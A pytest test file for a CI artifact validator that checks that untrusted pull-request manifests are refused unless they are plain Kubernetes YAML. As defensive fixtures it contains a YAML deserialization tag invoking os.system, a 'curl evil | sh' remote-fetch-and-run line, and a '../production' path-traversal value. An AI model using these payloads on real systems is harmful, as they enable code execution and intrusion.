"""pr.yml `live`: the head's manifests artifact is data from the PR's code; the base branch's spinops.artifact
accepts only plain built manifests (python -m spinops.artifact, the `live_input` session), before any credential
exists in the job."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
from pipeline_support import MANIFESTS

from spinops import artifact
from spinops_testlib import REFERENCE


def run(directory: Path, env: str, tmp_path: Path) -> subprocess.CompletedProcess:
    """The CLI as the workflow runs it, inside the frozen reference installation (the base checkout)."""
    return subprocess.run(
        [
            sys.executable, "-m", "spinops.artifact", "manifests", "--in", str(directory), "--env", env,
            "--out", str(tmp_path / "out" / f"{env}.yaml"), "--report", str(tmp_path / "report" / f"live-{env}.md"),
        ],
        cwd=REFERENCE,
        capture_output=True,
        text=True,
        env={**os.environ, "GITHUB_OUTPUT": str(tmp_path / "github_output")},
        timeout=120,
    )


@pytest.fixture
def upload(tmp_path) -> Path:
    d = tmp_path / "untrusted-manifests"
    d.mkdir()
    (d / "manifests.yaml").write_text(MANIFESTS)
    return d


def test_built_manifests_pass_and_the_cluster_variables_come_from_the_base(upload, tmp_path):
    proc = run(upload, "production", tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert (tmp_path / "out" / "production.yaml").read_text() == MANIFESTS
    # the reference overlay's spinops.yml (the base), not anything the PR's plan job wrote
    assert (tmp_path / "github_output").read_text().splitlines() == [
        "known=true", "cluster_var=GKE_CLUSTER_PRODUCTION", "location_var=GKE_LOCATION_PRODUCTION"
    ]


def test_an_environment_the_base_does_not_have_gets_no_live_diff(upload, tmp_path):
    proc = run(upload, "dev", tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert (tmp_path / "github_output").read_text() == "known=false\n"
    assert "not an environment on the base branch" in (tmp_path / "report" / "live-dev.md").read_text()
    assert not (tmp_path / "out").exists()


BAD = {
    "alias": (MANIFESTS.replace("metadata:\n  name: gate", "metadata: &m\n  name: gate", 1) + "---\nx: *m\n",
              "anchors and aliases", ":"),
    "tag": (MANIFESTS.replace("name: gate", "name: !!python/name:os.system gate", 1), "explicit YAML tag", ":"),
    "not-an-object": (MANIFESTS + "---\n- just\n- a list\n", "not a Kubernetes object", "manifests.yaml"),
    "no-name": (MANIFESTS + "---\napiVersion: v1\nkind: ConfigMap\nmetadata: {}\n", "not a Kubernetes object", ""),
    "broken": (MANIFESTS + "---\nkind: [unclosed\n", "not valid YAML", ":"),
    "empty": ("", "no objects", ""),
}


@pytest.mark.parametrize("case", sorted(BAD))
def test_anything_but_plain_manifests_is_refused_with_its_place(upload, tmp_path, case):
    text, message, _ = BAD[case]
    (upload / "manifests.yaml").write_text(text)
    proc = run(upload, "production", tmp_path)
    assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr
    assert f"{upload}/manifests.yaml" in proc.stderr and message in proc.stderr, proc.stderr
    assert not (tmp_path / "out").exists() and not (tmp_path / "github_output").exists()


def test_the_alias_is_located(upload, tmp_path):
    (upload / "manifests.yaml").write_text("apiVersion: v1\nkind: ConfigMap\nmetadata: &m\n  name: a\n")
    proc = run(upload, "production", tmp_path)
    assert f"{upload}/manifests.yaml:3:11: error: YAML anchors" in proc.stderr, proc.stderr


def test_other_files_symlinks_oversize_and_bad_bytes_are_refused(upload, tmp_path, monkeypatch):
    (upload / "extra.sh").write_text("curl evil | sh\n")
    with pytest.raises(artifact.InputError, match="exactly one file"):
        artifact.read_manifests(upload)
    (upload / "extra.sh").unlink()
    target = tmp_path / "secret"
    target.write_text(MANIFESTS)
    (upload / "manifests.yaml").unlink()
    (upload / "manifests.yaml").symlink_to(target)
    with pytest.raises(artifact.InputError, match="not a regular file"):
        artifact.read_manifests(upload)
    (upload / "manifests.yaml").unlink()
    (upload / "manifests.yaml").write_bytes(b"apiVersion: v1\nkind: \xff\n")
    with pytest.raises(artifact.InputError, match="not UTF-8"):
        artifact.read_manifests(upload)
    (upload / "manifests.yaml").write_text(MANIFESTS)
    monkeypatch.setattr(artifact, "MAX_BYTES", len(MANIFESTS) - 1)
    with pytest.raises(artifact.InputError, match="over the"):
        artifact.read_manifests(upload)


def test_a_bad_environment_name_from_the_matrix_is_refused(upload, tmp_path):
    proc = run(upload, "../production", tmp_path)
    assert proc.returncode == 2 and "not a valid environment name" in proc.stderr
